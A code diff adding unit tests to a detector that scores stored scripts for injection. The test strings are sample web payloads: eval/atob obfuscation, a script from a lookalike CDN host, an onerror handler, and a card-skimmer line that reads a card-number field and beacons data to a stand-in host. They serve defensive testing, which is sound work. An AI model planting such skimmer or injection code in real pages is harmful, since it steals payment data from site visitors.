@@ -419,6 +419,20 @@ TEST(StoreDbClassify, ScriptScores) {
   for (const auto& c : cases)
     EXPECT_EQ(ScoreStoredScript(c.content, own).score >= kInjectedScriptThreshold, c.flagged)
         << c.content;
+  // Obfuscation alone is one weak trait (reported at medium); with a foreign host's script, an
+  // event handler or a behaviour it is not alone.
+  EXPECT_TRUE(ScoreStoredScript("<script>var m=String.fromCharCode(115,64,101);</script>", own)
+                  .obfuscation_only);
+  EXPECT_FALSE(ScoreStoredScript("<script>eval(atob('ZG9jdW1lbnQ='))</script><script "
+                                 "src=\"https://jquery-cdn.top/min.js\"></script>",
+                                 own)
+                   .obfuscation_only);
+  EXPECT_FALSE(ScoreStoredScript("<img src=x onerror=\"eval(atob('ZG9jdW1lbnQ='))\">", own)
+                   .obfuscation_only);
+  EXPECT_FALSE(ScoreStoredScript("<script>document.querySelector('#cc_number');new Image().src='"
+                                 "//x.top/?'+btoa(String.fromCharCode(1))</script>",
+                                 own)
+                   .obfuscation_only);
 }
 
 TEST(StoreDbClassify, ContentShapes) {
